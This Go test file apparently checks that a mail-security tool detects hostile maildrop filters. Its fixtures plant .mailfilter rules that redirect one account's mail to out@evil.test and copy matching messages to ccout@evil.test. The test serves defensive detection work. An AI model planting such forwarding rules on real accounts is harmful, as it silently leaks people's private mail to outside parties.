package mailbox_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"relayguard/mta/postfix/postfixtest"
	"relayguard/systemtest/forward/forwardtest"
)

// needMaildrop skips where maildrop is missing; where it is required, with CI or
// RELAYGUARD_REQUIRE set, it fails instead.
func needMaildrop(t *testing.T) {
	t.Helper()
	postfixtest.Need(t)
	if _, err := exec.LookPath("maildrop"); err != nil {
		if os.Getenv("CI") != "" || os.Getenv("RELAYGUARD_REQUIRE") != "" {
			t.Fatalf("real maildrop required: %v (Debian package maildrop)", err)
		}
		t.Skipf("needs maildrop: %v (Debian package maildrop)", err)
	}
}

// TestMaildrop: an account's .mailfilter, which maildrop follows as mailbox_command.
func TestMaildrop(t *testing.T) {
	needMaildrop(t)
	dir := directory(t)
	var accounts []forwardtest.Account
	for _, name := range []string{"home1", "home2"} {
		a := forwardtest.AddAccount(t, "postdrop", filepath.Join(dir, name))
		a.Dir(t, a.Home, 0o755)
		accounts = append(accounts, a)
	}
	w := start(t, dir, options{forward: `dovecot = ""`, main: map[string]string{"mailbox_command": "/usr/bin/maildrop"}})
	filter := func(a forwardtest.Account, text string) func(*testing.T, *world) {
		// A private Postfix takes mail from sendmail(1) if its configuration is named.
		text = "MAIL_CONFIG=\"" + w.ConfigDir + "\"\nDEFAULT=\"" + a.Home + "/mbox\"\n" + text
		return func(t *testing.T, _ *world) { a.Plant(t, filepath.Join(a.Home, ".mailfilter"), text, 0o600) }
	}
	first, second := accounts[0], accounts[1]
	proveAll(t, w, []mailRule{
		{name: "to", plant: filter(first, "to \"!out@evil.test\"\n"),
			want: first.Name + " maildrop out@evil.test outside redirect", to: first.Name + "@corp.test", how: "same message"},
		{name: "cc", plant: filter(second, "D=\"evil.test\"\nif (/^Subject:.*hello/)\n{\n  cc \"!ccout@$D\"\n}\n"),
			want: second.Name + " maildrop ccout@evil.test outside copy", to: second.Name + "@corp.test", how: "same message"},
	})
}
